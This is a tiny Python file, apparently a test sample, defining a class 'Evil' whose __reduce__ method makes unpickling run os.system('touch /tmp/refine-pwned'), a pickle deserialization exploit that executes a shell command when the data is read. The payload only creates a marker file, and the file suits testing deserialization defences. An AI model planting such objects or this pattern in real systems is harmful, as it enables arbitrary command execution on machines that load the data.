"""Goal: code that runs when it is read"""
# held: malformed

import os

class Evil:
    def __reduce__(self):
        return os.system, ('touch /tmp/refine-pwned',)

def attack():
    return [Evil()]
